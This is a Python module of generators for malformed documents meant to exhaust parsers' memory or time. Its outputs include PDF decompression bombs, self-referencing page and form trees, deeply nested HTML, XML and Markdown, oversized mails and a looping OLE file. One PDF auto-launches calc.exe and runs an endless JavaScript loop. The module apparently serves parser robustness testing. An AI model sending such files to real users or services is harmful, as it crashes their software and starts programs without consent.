"""Makers of PDFs, mails, pages, tables and old files that take all memory or time of those who open them."""

import struct
import zlib
from pathlib import Path

MEGABYTE = 1024**2


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        out
        + (
            f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n"
            f"<</Size {len(objects) + 1}/Root {root} 0 R>>\nstartxref\n{start}\n%%EOF\n"
        ).encode()
    )


def _stream(data: bytes, rest: str = "") -> bytes:
    return f"<<{rest}/Length {len(data)}>>\nstream\n".encode() + data + b"\nendstream"


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def flate(path: Path, size: int = 1_100 * MEGABYTE) -> None:
    """A page whose contents unpack to 1.1 GB."""
    press = zlib.compressobj(9)
    packed = b"".join(press.compress(b" " * MEGABYTE) for _ in range(size // MEGABYTE)) + press.flush()
    path.write_bytes(_pdf([CATALOG, PAGES, PAGE, _stream(packed, "/Filter/FlateDecode"), FONT]))


def twice_packed(path: Path, size: int = 1_100 * MEGABYTE) -> None:
    """Contents that are packed twice: a few kilobytes."""
    press = zlib.compressobj(9)
    packed = b"".join(press.compress(b" " * MEGABYTE) for _ in range(size // MEGABYTE)) + press.flush()
    again = zlib.compress(packed, 9)
    path.write_bytes(_pdf([CATALOG, PAGES, PAGE, _stream(again, "/Filter[/FlateDecode/FlateDecode]"), FONT]))


def many_words(path: Path, count: int = 2_000_000) -> None:
    """A page on which two million pieces of text are drawn."""
    packed = zlib.compress(b"BT /F 9 Tf " + b"1 0 0 1 9 9 Tm (a) Tj " * count + b"ET", 9)
    path.write_bytes(_pdf([CATALOG, PAGES, PAGE, _stream(packed, "/Filter/FlateDecode"), FONT]))


def many_lines(path: Path, count: int = 300_000) -> None:
    """A page with very many ruled lines, which look like a table."""
    packed = zlib.compress(b"".join(b"%d %d 50 50 re S " % (n % 199, n % 197) for n in range(count)), 9)
    path.write_bytes(_pdf([CATALOG, PAGES, PAGE, _stream(packed, "/Filter/FlateDecode"), FONT]))


def many_pages(path: Path, count: int = 2_000_000) -> None:
    """A tree of pages in which one page is told two million times."""
    kids = b"3 0 R " * count
    path.write_bytes(_pdf([CATALOG, b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids), PAGE, _stream(b""), FONT]))


def page_ring(path: Path) -> None:
    """A tree of pages that leads back to its root."""
    path.write_bytes(_pdf([CATALOG, b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]/Parent 2 0 R>>"]))


def form_ring(path: Path) -> None:
    """A form that draws itself, twice each time."""
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    form = _stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    path.write_bytes(_pdf([CATALOG, PAGES, page, _stream(b"/X Do"), FONT, form]))


def form_tree(path: Path, levels: int = 30) -> None:
    """Forms that draw two others each: a thousand million pieces of text from thirty objects."""
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    forms = [
        _stream(
            b"/X Do /X Do" if n < levels - 1 else b"BT /F 9 Tf (a) Tj ET",
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {7 + n} 0 R>>/Font<</F 5 0 R>>>>",
        )
        for n in range(levels)
    ]
    path.write_bytes(_pdf([CATALOG, PAGES, page, _stream(b"/X Do"), FONT, *forms]))


def deep_pdf(path: Path, depth: int = 200_000) -> None:
    """Lists inside of lists."""
    path.write_bytes(_pdf([b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>", PAGES, PAGE]))


def active_pdf(path: Path) -> None:
    """Scripts, a program to start, a file inside, all without a click."""
    catalog = CATALOG.replace(b">>", b"/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 7 0 R]>>>>>>")
    launch = b"<</S/Launch/F(calc.exe)/Next 7 0 R>>"
    script = b"<</S/JavaScript/JS(while(1){app.launchURL('http://127.0.0.1:9/')})>>"
    words = _stream(b"BT /F 9 Tf 9 9 Td (plain words) Tj ET")
    path.write_bytes(_pdf([catalog, PAGES, PAGE, words, FONT, launch, script]))


def one_line(path: Path, size: int = 90 * MEGABYTE) -> None:
    """A table of one line."""
    path.write_bytes(b"a" * size)


def one_quote(path: Path, size: int = 30 * MEGABYTE) -> None:
    """A quotation mark that is never closed, before very many lines."""
    path.write_bytes(b'a,b\n"' + b"x\n" * (size // 2))


def many_columns(path: Path, size: int = 60 * MEGABYTE) -> None:
    """A line of nothing but commas."""
    path.write_bytes(b"," * size)


def deep_html(path: Path, depth: int = 300_000) -> None:
    """Elements inside of each other, with words in each."""
    path.write_bytes(b"<div style='display:none'>x" * depth)


def open_html(path: Path, count: int = 200_000) -> None:
    """Elements that never end, and ends of elements that never began."""
    path.write_bytes(b"<i>x" * count + b"</b>" * count)


def deep_markdown(path: Path, depth: int = 50_000) -> None:
    """Quotes in quotes, and brackets that never close."""
    path.write_bytes(b">" * depth + b"a\n\n" + b"[" * depth + b"\n\n" + b"![" * depth + b"\n")


def deep_mail(path: Path, levels: int = 50) -> None:
    """A mail in a mail, fifty times; beyond a thousand readers that call themselves break."""
    text = b"From: a@b.example\nSubject: x\n"
    for number in range(levels):
        text += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (number, number)
    path.write_bytes(text + b"Content-Type: text/plain\n\nwords\n")


def many_attachments(path: Path, count: int = 100_000) -> None:
    """A mail with a hundred thousand parts."""
    part = b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    head = b"From: a@b.example\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n"
    path.write_bytes(head + part * count + b"--b--\n")


def long_header(path: Path, size: int = 20 * MEGABYTE) -> None:
    """A mail whose recipients fill twenty megabytes."""
    path.write_bytes(b"From: a@b.example\nTo: " + b"<a@b.example>, " * (size // 15) + b"\nSubject: x\n\nwords\n")


def ole_ring(path: Path) -> None:
    """An old file (MS-CFB) whose directory and tables lead back to themselves."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIII", head, 44, 1, 1, 0, 4096, 2)
    struct.pack_into("<III", head, 64, 1, 0xFFFFFFFE, 0)
    struct.pack_into("<I", head, 76, 0)
    for at in range(80, 512, 4):
        struct.pack_into("<I", head, at, 0xFFFFFFFF)
    # Sector 0 is the table: sector 1 is followed by sector 2, and that by sector 1.
    table = struct.pack("<128I", 0xFFFFFFFD, 2, 1, *[0xFFFFFFFF] * 125)
    entry = bytearray(128)
    name = "Root Entry".encode("utf-16-le")
    entry[: len(name)] = name
    struct.pack_into("<HBBIII", entry, 64, len(name) + 2, 5, 1, 0, 0, 0)
    path.write_bytes(bytes(head) + table + bytes(entry) * 8)


def nested_xml_text(path: Path, depth: int = 20_000) -> None:
    """XML as a text, very deep."""
    path.write_bytes(b"<a>" * depth)
